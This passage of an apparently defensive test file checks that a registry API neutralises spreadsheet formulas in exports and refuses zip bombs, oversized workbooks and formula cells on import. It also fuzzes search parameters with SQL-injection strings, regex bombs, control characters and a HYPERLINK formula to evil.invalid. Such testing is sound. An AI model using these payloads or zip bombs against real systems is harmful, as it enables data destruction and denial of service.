      ['persons XLSX (registry/export.ts)', '/api/v1/persons/export?format=xlsx&q=Formula'],
      ['cases XLSX (reports/list-export.ts)', '/api/v1/cases/export?format=xlsx'],
    ] as const) {
      const file = await send('export', what, w.coordinator, 'GET', url);
      assert.equal(file.statusCode, 200, file.body);
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(file.rawPayload as unknown as ExcelJS.Buffer);
      const values: string[] = [];
      book.worksheets[0]!.eachRow((row) =>
        row.eachCell((cell) => {
          assert.notEqual(cell.type, ExcelJS.ValueType.Formula, `${what}: ${cell.address} is a formula`);
          if (typeof cell.value === 'string') values.push(cell.value);
        }),
      );
      assert.deepEqual(values.filter((v) => inert.test(v)), [], `${what}: no cell starts with = + - @ tab or CR`);
      assert.ok(values.some((v) => v.startsWith("'=HYPERLINK")), `${what}: the formula is there, made inert`);
    }
  });

  test('workbooks: zip bombs (honest, lying, by ratio, by entries), 10,000 columns, a formula cell — refused quickly, nothing written', { timeout: 120_000 }, async () => {
    const zeros = await deflatedZeros(1024); // 1 GiB of zeros in about 1 MB
    const sheetXml = (size: number, data: Buffer): RawEntry => ({ name: 'xl/worksheets/sheet1.xml', data, method: 8, uncompressedSize: size });
    const types: RawEntry = { name: '[Content_Types].xml', data: CONTENT_TYPES, method: 0, uncompressedSize: CONTENT_TYPES.length };
    const bombs: [string, Buffer, RegExp][] = [
      ['a zip bomb that says what it is (4 × 1 GiB declared)', zip([types, ...[1, 2, 3, 4].map((n) => ({ ...sheetXml(1024 * 1024 * 1024, zeros), name: `xl/worksheets/sheet${n}.xml` }))]), /inflates to more than/],
      ['a zip bomb that lies (1 GiB declared as 1 KB)', zip([types, sheetXml(1024, zeros)]), /more than it declares/],
      ['a zip bomb by ratio (300 MiB from 300 KB)', zip([types, sheetXml(300 * 1024 * 1024, await deflatedZeros(300))]), /inflates \d+ times/],
      ['a zip of 5,000 parts', zip(Array.from({ length: 5000 }, (_, i) => ({ name: `xl/p${i}.xml`, data: Buffer.from('x'), method: 0 as const, uncompressedSize: 1 }))), /5000 parts/],
    ];
    for (const [what, body, message] of bombs) {
      const started = performance.now();
      await refusedImport(what, body, { status: 400, code: 'xlsx_too_large', message }, XLSX_TYPE);
      assert.ok(performance.now() - started < 5000, `${what}: refused in ${(performance.now() - started).toFixed(0)} ms, not inflated`);
    }
    await refusedImport('a truncated zip', zip([types, sheetXml(1024, zeros)]).subarray(0, 5000), { status: 400, code: 'malformed_xlsx' }, XLSX_TYPE);
    await refusedImport('a zip with a broken deflate stream', zip([types, sheetXml(1000, Buffer.alloc(500, 0xff))]), { status: 400, code: 'malformed_xlsx' }, XLSX_TYPE);

    const wide = await workbook((sheet) => {
      sheet.addRow(Array.from({ length: 10_000 }, (_, i) => `column_${i}`));
      sheet.addRow(Array.from({ length: 10_000 }, (_, i) => `v${i}`));
    });
    await refusedImport('a workbook of 10,000 columns', wide, { status: 400, code: 'too_many_columns', message: /10000 columns/ }, XLSX_TYPE);

    const withFormula = await workbook((sheet) => {
      sheet.addRow(HEADER.split(','));
      sheet.addRow([ref(), 'female', '2014', 'Amina', 'Test', 'RUS']);
      sheet.addRow([ref(), 'female', '2014', { formula: 'HYPERLINK("http://evil.invalid","x")', result: 'x' }, 'Test', 'RUS']);
    });
    await refusedImport('a workbook with a formula cell', withFormula, { status: 400, code: 'formula_cell', message: /row 3, column given_name \(D3\)/ }, XLSX_TYPE);

    // The control: a workbook the guard lets through imports.
    const good = await workbook((sheet) => {
      sheet.addRow(HEADER.split(','));
      sheet.addRow([ref(), 'female', '2014', 'Amina', 'Workbook', 'RUS']);
    });
    const response = await importAs('a whole workbook (the control)', good, XLSX_TYPE);
    assert.equal(response.json().created, 1, response.body);
  });
});

// ---- search parameters ----------------------------------------------------------

/** A query-string value as raw bytes: a lone surrogate cannot be percent-encoded from a string, so it is sent as the invalid UTF-8 it would be. */
const encode = (v: string) => (/[\ud800-\udfff]/.test(v) && !/[\ud800-\udbff][\udc00-\udfff]/.test(v) ? v.split(/([\ud800-\udfff])/).map((p) => (/^[\ud800-\udfff]$/.test(p) ? '%ED%A0%80' : encodeURIComponent(p))).join('') : encodeURIComponent(v));

const SEARCH_VALUES = [
  ...SQL,
  "' or 1=1 --",
  "1'; drop table persons; --",
  '’ or ’1’=’1', // unicode quotes
  'ʼ; drop table users; --',
  '＇ or ＇1＇=＇1',
  ...REGEX_BOMBS,
  `${'(a+)+'.repeat(30)}$`,
  'a'.repeat(5000),
  'x'.repeat(10_000),
  'محمد Ivan Иван',
  'Му\u200dхаммад\u200c Али\u200b',
  '\u202eIvan\u202c \u2066محمد\u2069 \u200fАлиев',
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  '\u0007\u001b[31m\r\n',
  '😀'.repeat(100),
];

const FEW_VALUES = ["1'; drop table persons; --", 'x'.repeat(10_000), 'a\u0000b', '\ud800', "' or 1=1 --", '’ or ’1’=’1', '(a+)+$', '\u202eIvan\u202c محمد'];

describe('hostile search parameters', () => {
  test('every text query parameter of every list: SQL injection, regex bombs, 10,000 characters, mixed scripts, controls — 2xx or 4xx, in time', { timeout: 300_000 }, async () => {
    const doc = (await w.coordinator.request('GET', '/api/v1/openapi.json')).json() as {
      paths: Record<string, Record<string, { parameters?: { in: string; name: string; schema?: { type?: string; enum?: unknown[]; format?: string; pattern?: string } }[] }>>;
    };
    // Free-text parameters get every value; the others (enums, ids, codes, numbers, dates) a few.
    const targets: { path: string; name: string; text: boolean }[] = [];
    for (const [path, methods] of Object.entries(doc.paths)) {
      const get = methods.get;
      if (!get || path.includes('{')) continue;
      for (const p of get.parameters ?? []) {
        if (p.in !== 'query') continue;
        const s = p.schema ?? {};
        targets.push({ path, name: p.name, text: s.type === 'string' && !s.enum && !s.format && !s.pattern && p.name !== 'cursor' });
      }
    }
    assert.ok(targets.some((x) => x.path === '/api/v1/persons' && x.name === 'q'), 'the registry search is among them');
    const before = await counts();
    const used: string[] = [];
    const allowed = new Map<string, { client: Client; role: string }>();
    for (const target of targets) {
      // Signed in as a role the list is open to (the first that is not refused), so the value reaches the query.
      let signedIn = allowed.get(target.path);
      if (!signedIn) {
        signedIn = { client: w.coordinator, role: 'coordinator' };
        for (const [r, c] of w.clients) {
          if ((await c.request('GET', target.path)).statusCode !== 403) {
            signedIn = { client: c, role: r };
            break;
          }
        }
        allowed.set(target.path, signedIn);
      }
      const { client, role } = signedIn;
      if (target.text) used.push(`${target.path.replace('/api/v1', '')}?${target.name} as ${role}`);
      for (const value of target.text ? SEARCH_VALUES : FEW_VALUES.slice(0, 4)) {
        await send('search', `${target.path}?${target.name}=${JSON.stringify(value.slice(0, 40))}`, client, 'GET', `${target.path}?${target.name}=${encode(value)}`);
      }
      // Also as the embassy, whose scope is another SQL path.
      if (target.text) {
        for (const value of FEW_VALUES) await send('search', `${target.path}?${target.name} (embassy)`, w.embassy, 'GET', `${target.path}?${target.name}=${encode(value)}`);
      }
    }
    const long = await w.coordinator.request('GET', `/api/v1/persons?q=${'x'.repeat(10_000)}`);
    assert.equal(long.statusCode, 400, long.body);
    assert.ok(errorOf(long).details?.some((d) => /q$/.test(d.path)), `the error names q: ${long.body.slice(0, 300)}`);
    const injected = await w.coordinator.request('GET', `/api/v1/persons?q=${encodeURIComponent("' or 1=1 --")}`);
    assert.equal(injected.statusCode, 200, injected.body);
    assert.equal(injected.json().data.length, 0, 'an injection finds nobody');
    // Exports are audited (their events are the only writes); nothing else changed, nothing dropped.
    const now = await counts();
    assert.deepEqual({ ...now, audit_events: 0 }, { ...before, audit_events: 0 }, 'nothing dropped or written');
    console.log(`hostile search: ${targets.length} query parameters of ${new Set(targets.map((x) => x.path)).size} lists; ${used.length} free-text ones × ${SEARCH_VALUES.length} values (${used.join(', ')}), the others × 4`);
  });
});

/** Time bounds per kind of input, on a shared 2-core machine: a search answers in 2 s; an upload in 5 s; an import of a 50 MB file in 30 s. */
const BOUNDS: Readonly<Record<string, number>> = { search: 2000, upload: 5000, export: 10_000, import: 30_000 };

test('every hostile answer kept the contract (no 5xx, the error format, no stack) within the time bound', () => {
  assert.deepEqual(failures.slice(0, 20), [], `${failures.length} answers broke the contract`);
  for (const [kind, s] of slowest) assert.ok(s.ms < (BOUNDS[kind] ?? 10_000), `the slowest ${kind} took ${s.ms.toFixed(0)} ms: ${s.what}`);
  assert.ok((tally.get('search')?.inputs ?? 0) > 500 && (tally.get('upload')?.inputs ?? 0) > 50 && (tally.get('import')?.inputs ?? 0) > 25, 'every part ran');
});
